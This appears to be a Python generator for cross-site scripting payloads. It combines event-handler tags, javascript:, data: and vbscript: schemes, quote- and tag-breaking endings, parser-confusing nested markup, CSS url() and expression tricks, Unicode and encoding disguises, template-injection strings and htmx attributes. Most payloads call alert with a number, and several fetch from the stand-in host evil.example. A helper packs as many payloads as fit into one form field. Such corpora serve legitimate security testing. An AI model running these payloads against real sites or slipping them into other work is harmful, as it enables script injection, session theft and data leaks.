"""Words that try to run where they are shown: made by rule, from tags, attributes, encodings and the places in which a
text may stand. Each calls `alert` with its own number, or asks a host that is not ours.
"""

import base64
from collections.abc import Iterator
from itertools import count, product

THERE = "evil.example"
EVENTS = (
    "img src=x|onerror", "svg|onload", "body|onload", "video src=x|onerror", "audio src=x|onerror",
    "input autofocus|onfocus", "details open|ontoggle", "iframe|onload", "object data=x|onerror", "marquee|onstart",
    "select autofocus|onfocus", "textarea autofocus|onfocus", "a href=# tabindex=1 autofocus|onfocus",
    "div style=animation-name:x|onanimationstart", "button autofocus|onfocus", "style|onload",
    "link rel=stylesheet href=x|onerror", "p|onpointerover", "keygen autofocus|onfocus", "frameset|onload",
    "video><source|onerror", "math href=x|onclick",
)  # fmt: skip
SPELLINGS = (
    "<{tag} {on}={code}>", '<{tag} {on}="{code}">', "<{tag} {on}='{code}'>", "<{TAG} {ON}={code}>",
    "<{tag}/{on}={code}//", "<{tag}\n{on}\t=\r{code} >", "<{tag} {on}={entities}>", '<{tag} x="`" {on}={code} y=">">',
)  # fmt: skip
ADDRESSED = (
    '<a href="{}">x</a>', '<area href="{}">', '<form action="{}"><input type=submit>', '<button formaction="{}">x',
    '<iframe src="{}"></iframe>', '<embed src="{}">', '<object data="{}"></object>', '<img src="{}">',
    '<svg><a xlink:href="{}"><text y=9>x</text></a></svg>', '<math><mi xlink:href="{}">x</mi></math>',
    '<base href="{}">', '<link rel=stylesheet href="{}">', '<meta http-equiv=refresh content="0;url={}">',
    '<video poster="{}"></video>', '<table background="{}"><td>x', '<input type=image src="{}">',
    '<script src="{}"></script>', '<svg><use href="{}"/></svg>', '<img srcset="{} 2x">',
)  # fmt: skip
SCHEMES = (
    "javascript:{code}", "jav&#x61;script:{code}", "java\nscript:{code}", " \x01javascript:{code}",
    "JaVaScRiPt:{code}", "data:text/html,<script>{code}</script>", "data:text/html;base64,{base64}",
    "vbscript:{code}", "//evil.example/{n}", "https://127.0.0.1@evil.example/{n}", "\\\\evil.example/{n}",
    "javascript&colon;{code}", "data:image/svg+xml,<svg onload={code}>",
)  # fmt: skip
ENDS = (
    '"', "'", '">', "'>", "-->", "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>",
    "]]>", "`", "*/", "\u2028", "\\\"", "&quot;>", "%22%3E", "\x00\">", "</iframe>",
)  # fmt: skip
CORES = (
    "<script>{code}</script>", "<img src=x onerror={code}>", "<svg/onload={code}>", " onfocus={code} autofocus x=",
    "<img src=//evil.example/{n}>",
)  # fmt: skip
NESTS = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;{}'>", "<svg><style><a title='</style>{}'>",
    "<noscript><p title='</noscript>{}'>", "<svg></p><style><g title='</style>{}'>",
    "<svg><foreignobject><desc><title><style>{}", "<form><math><mtext></form><form><mglyph><style></math>{}",
    "<select><template><style><!--</style>{}--></template></select>", "<table><tr><td><xmp>{}</xmp><caption>{}",
    "<template><s>{}</template>", "<noembed>{}</noembed>", "<noframes><p title='</noframes>{}'>",
    "<math><annotation-xml encoding=text/html>{}</math>", "<iframe srcdoc='{}'></iframe>", "<!--><x>-->{}",
    "<![CDATA[>{}]]>", "<plaintext>{}",
)  # fmt: skip
STYLES = (
    "background:url(//evil.example/{n})", "list-style-image:url(//evil.example/{n})", "width:expression({code})",
    "border-image:url('//evil.example/{n}') 1", "cursor:url(//evil.example/{n}),auto", "behavior:url(x.htc)",
    "background-image:image-set('//evil.example/{n}' 1x)", "-moz-binding:url(//evil.example/{n}#x)",
    "background:u\\72l(//evil.example/{n})", "content:url(//evil.example/{n})", "mask:url(//evil.example/{n})",
)  # fmt: skip
WEARS = ('<p style="{}">x</p>', "<style>*{{{}}}</style>", "<style>@import '//evil.example';p{{{}}}</style>")
DISGUISES = (
    "＜script＞{code}＜/script＞", "+ADw-script+AD4-{code}+ADw-/script+AD4-", "\x1b$B<script>{code}</script>\x1b(B",
    "<scr\u200bipt>{code}</scr\u200bipt>", "<scr<script>ipt>{code}</scr</script>ipt>", "<<script>{code}//<</script>",
    "\u202e<script>{code}</script>\u202c", "%3Cscript%3E{code}%3C/script%3E", "&lt;script&gt;{code}&lt;/script&gt;",
    "\\u003cscript\\u003e{code}\\u003c/script\\u003e", "<ſcript>{code}</ſcript>", "<script\x0c>{code}</script>",
    "{{{{{code}}}}}", "${{{code}}}", "{{% {code} %}}", "<%= {code} %>", "#{{{code}}}",
    "{{{{constructor('{code}')()}}}}",
    "<x hx-on:click={code} hx-trigger=load>", "<x hx-get=//evil.example/{n} hx-trigger=load>",
    "<x data-hx-get=//evil.example/{n} data-hx-trigger=load>", "<x hx-vals='js:x:{code}' hx-post=/ hx-trigger=load>",
    "<x hx-on--before-init={code}>", "<x is=script onclick={code} autofocus>", "<portal src=//evil.example/{n}>",
)  # fmt: skip
CLOSING = (
    "</textarea></style></title></noscript></template></xmp></noembed></noframes></iframe></svg></math></select>-->"
)


def payloads() -> list[str]:
    """All of them, each once."""
    numbers = count(1)
    return list(dict.fromkeys(made.replace("\x7f", "") for made in _every(numbers)))


def _every(numbers: Iterator[int]) -> Iterator[str]:
    for event, spelling in product(EVENTS, SPELLINGS):
        tag, _, on = event.partition("|")
        yield _spelt(spelling, next(numbers), tag=tag, TAG=tag.upper(), on=on, ON=on.upper())
    for carrier, scheme in product(ADDRESSED, SCHEMES):
        yield carrier.format(_spelt(scheme, next(numbers)))
    for end, core in product(ENDS, CORES):
        yield end + _spelt(core, next(numbers))
    for nest, core in product(NESTS, CORES):
        yield nest.replace("{}", _spelt(core, next(numbers)))
    for wear, style in product(WEARS, STYLES):
        yield wear.format(_spelt(style, next(numbers)))
    for disguise in DISGUISES:
        yield _spelt(disguise, next(numbers))


def _spelt(form: str, number: int, **named: str) -> str:
    code = f"alert({number})"
    return form.format(
        code=code,
        n=number,
        entities="".join(f"&#x{ord(sign):x};" for sign in code),
        base64=base64.b64encode(f"<script>{code}</script>".encode()).decode(),
        **named,
    )


def armfuls(of: list[str], room: int) -> list[str]:
    """As many in one text as a field has room for."""
    texts = [""]
    for one in of:
        if len(texts[-1]) + len(one) + 1 > room and texts[-1]:
            texts.append("")
        texts[-1] = f"{texts[-1]} {one}".strip()[:room]
    return texts
